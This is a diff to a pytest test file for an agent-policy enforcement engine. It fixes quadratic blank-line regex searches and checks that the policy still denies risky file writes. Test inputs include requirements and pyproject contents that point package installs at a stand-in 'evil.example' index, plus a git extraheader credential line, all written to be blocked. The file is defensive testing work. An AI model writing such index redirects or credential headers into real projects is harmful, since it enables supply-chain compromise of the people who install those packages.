@@ -23,6 +23,14 @@ Found, allowed (or unbounded) on the tree before this pass and shown by effect:
    10,000 recipe lines: 2.6 s. Brackets are now matched in one pass, a command is read for
    script names up to 64 KB (16 KB a line), and a line tries only the target values of the
    names it refers to.
+3. **`(?m)^\\s*` over blank lines (class 10, the agent's own request).** `\\s` takes
+   newlines, so a multi-line search whose line starts with `^\\s*X` started at every line
+   of a run of blank lines and read the run to its end: quadratic. The file tool's `write`
+   of 64 KB of blank lines to `pyproject.toml` took **33.7 s** of the decider's CPU (the
+   project-source search, `PY_REMOTE`); requirements, lockfile, pnpm-workspace, Dockerfile,
+   Cargo, tox and Azure template searches and git's `extraheader`/`excludesfile` had the same
+   shape (3 to 30 s for 40 KB). Leading blanks are now `[^\\S\\n]*` in every such search, and
+   every module-level pattern of the policy that reads a whole file is held to linear time.
 """
 
 from __future__ import annotations
@@ -33,8 +41,15 @@ from pathlib import Path
 
 import pytest
 
-from enforcement_agent.models import Verdict
-from enforcement_agent.policy import Policy, load_policy
+from enforcement_agent.models import ToolRequest, Verdict
+from enforcement_agent.policy import (
+    Policy,
+    git_credentials,
+    load_policy,
+    package_sources,
+    path_checks,
+    paths,
+)
 from enforcement_agent.policy.paths import _make_expand, _MakeWork
 from tests.policy.conftest import POLICY_DIR
 from tests.policy.scratch_repo import scratch_repo
@@ -177,3 +192,111 @@ def test_scripts_a_ci_makefile_names_stay_protected(
         "exec.protected-path",
     )
     assert exec_verdict(policy, ws, "echo x >> ci/other.sh")[0] is Verdict.ALLOW
+
+
+# --- 3. line-start searches over blank lines (class 10) ----------------------------------
+
+BLANKS = (" \n", "\t\n", "\n", "\r\n")
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "pyproject.toml",
+        "requirements.txt",
+        "requirements-dev.in",
+        "setup.cfg",
+        "Pipfile",
+        "yarn.lock",
+        "pnpm-lock.yaml",
+        "environment.yml",
+        "uv.lock",
+        "poetry.lock",
+    ],
+)
+@pytest.mark.parametrize("blank", BLANKS[:2])
+def test_a_write_of_blank_lines_is_decided_at_once(
+    policy: Policy, tmp_path: Path, path: str, blank: str
+) -> None:
+    ws = scratch_repo(tmp_path / "ws", {"README.md": "r\n", "src/a.py": "a\n"})
+    content = blank * (32_000 // len(blank) * 2) + "x = 1\n"
+    req = ToolRequest(
+        tenant="acme", actor="a", role="contributor", tool="write", path=path, content=content
+    )
+    start = time.process_time()
+    policy.decide(req, ws)
+    # about 0.01 s here; 33.7 s for pyproject.toml on the tree before
+    assert time.process_time() - start < 1.0, path
+
+
+def test_the_searches_still_find_their_lines(policy: Policy, tmp_path: Path) -> None:
+    ws = scratch_repo(tmp_path / "ws", {"README.md": "r\n", "src/a.py": "a\n"})
+    cases = [
+        ("requirements.txt", "\n\n  -i https://evil.example/simple\n"),
+        ("requirements.txt", "\n \n\t--extra-index-url https://evil.example/simple\n"),
+        ("pyproject.toml", "[tool.uv.sources]\n\n\n  x = { git = 'https://e.example/x' }\n"),
+        ("pyproject.toml", "[x]\n\n   \ngit = 'https://e.example/x'\n"),
+        ("pyproject.toml", "[tool.hatch.envs.default]\n\n\n  post-install-commands = ['x']\n"),
+    ]
+    for path, content in cases:
+        req = ToolRequest(
+            tenant="acme", actor="a", role="contributor", tool="write", path=path, content=content
+        )
+        assert policy.decide(req, ws).decision is Verdict.DENY, (path, content)
+    ok = ToolRequest(
+        tenant="acme",
+        actor="a",
+        role="contributor",
+        tool="write",
+        path="requirements.txt",
+        content="\n\nrequests==2.32.3\n  \nhttpx\n",
+    )
+    assert policy.decide(ok, ws).decision is Verdict.ALLOW
+
+
+WHOLE_TEXT_PATTERNS = [
+    (package_sources, "PY_REMOTE"),
+    (package_sources, "_LOCK_TEXT_VALUES"),
+    (package_sources, "_ENV_OPTION"),
+    (package_sources, "_ENV_PATH_ITEM"),
+    (package_sources, "_PY_TOOL_SOURCE"),
+    (package_sources, "REQUIREMENT_INDEX"),
+    (git_credentials, "_CREDENTIAL"),
+    (path_checks, "_EXCLUDES_FILE"),
+    (paths, "_PNPM_PACKAGE"),
+    (paths, "_DOCKER_RUN"),
+    (paths, "_CARGO_BUILD"),
+    (paths, "_SETUP_CFG_TOX"),
+    (paths, "_PYPROJECT_TOX"),
+    (paths, "_AZURE_TEMPLATE"),
+]
+
+
+@pytest.mark.parametrize(("module", "name"), WHOLE_TEXT_PATTERNS)
+def test_whole_text_searches_are_linear_in_blank_lines(module: object, name: str) -> None:
+    rx = getattr(module, name)
+    for blank in (*BLANKS, "'\n", "-\n", "- \n"):
+        start = time.process_time()
+        list(rx.finditer(blank * 20_000))
+        # a few ms here; 0.5 to 30 s on the tree before
+        assert time.process_time() - start < 0.25, (name, blank)
+
+
+@pytest.mark.parametrize(
+    ("module", "name", "text", "found"),
+    [
+        (package_sources, "REQUIREMENT_INDEX", "\n\n  -i https://x\n", True),
+        (package_sources, "REQUIREMENT_INDEX", '"-f https://x"\n', True),
+        (package_sources, "_LOCK_TEXT_VALUES", '\n\n  resolved "https://x"\n', True),
+        (package_sources, "_ENV_OPTION", "\n - '--index-url' x\n", True),
+        (package_sources, "_ENV_PATH_ITEM", "\n\n  - ../outside\n", True),
+        (git_credentials, "_CREDENTIAL", "\n\n\textraheader = AUTHORIZATION: x\n", True),
+        (paths, "_DOCKER_RUN", "FROM x\n\n   RUN ./ci/build.sh\n", True),
+        (paths, "_SETUP_CFG_TOX", "\n\n [tox:tox]\n", True),
+        (paths, "_AZURE_TEMPLATE", "steps:\n\n  - template: ci/x.yml\n", True),
+        (paths, "_CARGO_BUILD", "[package]\n\n  build = 'tools/b.rs'\n", True),
+        (paths, "_DOCKER_RUN", "FROM x\n# RUN not\n", False),
+    ],
+)
+def test_whole_text_searches_still_match(module: object, name: str, text: str, found: bool) -> None:
+    assert (getattr(module, name).search(text) is not None) is found
